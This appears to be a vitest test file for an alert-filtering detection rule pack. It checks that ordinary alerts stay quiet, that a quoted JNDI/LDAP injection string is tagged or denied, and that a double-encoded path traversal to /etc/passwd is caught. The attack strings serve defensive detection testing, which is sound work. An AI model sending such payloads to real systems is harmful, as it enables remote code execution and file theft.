import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { payloadLimitBytes } from "../../contract/limits.ts";
import { benignAlert } from "./benign-alert.ts";
import { compileRules } from "./compile.ts";
import { loadRulePack } from "./load-pack.ts";
import { createRandom } from "./random.ts";

const matcher = compileRules(await loadRulePack(`${import.meta.dirname}/../../../rules`));
const grave = (text: string) =>
  matcher
    .match(Buffer.from(text), "device")
    .filter(({ level }) => level === "high" || level === "critical")
    .map(({ title }) => title);

/** Alerts with words, paths and signs that careless rules trip over. */
const awkwardAlerts = [
  { message: "Union strike: select gates stay closed; drop-in table replaced at 10:15" },
  { message: "Backup of /etc finished; 412 files, tar exit code 0", path: "/var/backups/etc.tgz" },
  { message: "cURL error 28 & retry; wget not installed on gw-2" },
  { message: "User root logged in via ssh key SHA256:9n0q3s, sudo sh denied" },
  {
    message: "Firmware 2.1.0 downgrade prevented: rollback protection active",
    allow_downgrade: false,
  },
  { message: "PLC stopped by operator3; safety interlock tested, valve open 40 %" },
  { message: "Topic plant/7/# requested, refused by ACL", topic: "plant/7/temperature" },
  { message: "Modbus function code 3 timed out", modbus: { function_code: 3 } },
  { message: "Price ${12} {{ value }} #4 100% <ok> a && b || c; d" },
  { message: "C:\\temp\\new\\u.txt scanned, cmd.exe running", password: "********" },
  { link: "https://docs.example.net/a/../b?id=1&sort=desc&union=eu#part" },
  { message: "Certificate -----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----" },
  { message: "Zeitüberschreitung beim Aktualisieren – Gerät 7 meldet „bereit“" },
];

describe("the pack that ships", () => {
  it("stays quiet about ordinary alerts", () => {
    const random = createRandom(2026);
    const alarms = Array.from({ length: 1000 }, () => grave(benignAlert(random))).flat();
    expect(alarms).toEqual([]);
    expect(awkwardAlerts.flatMap((alert) => grave(JSON.stringify(alert)))).toEqual([]);
  });

  it("tags an upstream alert that quotes an attack, and nothing more", () => {
    const alert = JSON.stringify({
      event: "ids.alert",
      message: "Blocked request",
      request: "GET /?x=${jndi:ldap://198.51.100.7/a} HTTP/1.1",
    });
    const matches = matcher.match(Buffer.from(alert), "upstream");
    expect(matches.map(({ action }) => action)).toEqual(["tag"]);
    expect(matcher.match(Buffer.from(alert), "device")).toMatchObject([{ action: "deny" }]);
  });

  it("sees through two layers of escapes", () => {
    expect(grave('{"a":"\\u0025252e%252e%252fetc%252fpasswd"}')).toContain(
      "Parent folders that end at a system file",
    );
  });

  it("never throws on any bytes within the limit", () => {
    const bytes = fc.uint8Array({ maxLength: payloadLimitBytes, size: "max" });
    const escapes = fc
      .array(fc.constantFrom("%", "%u", "\\", "\\u00", "&#", "&#x2", ";", "41", "{", '"', "é"))
      .map((pieces) => Buffer.from(pieces.join("")));
    fc.assert(
      fc.property(
        fc.oneof(bytes, escapes),
        fc.constantFrom("upstream", "device"),
        (payload, origin) => {
          matcher.match(payload, origin);
        },
      ),
      { numRuns: 60 },
    );
  });
});
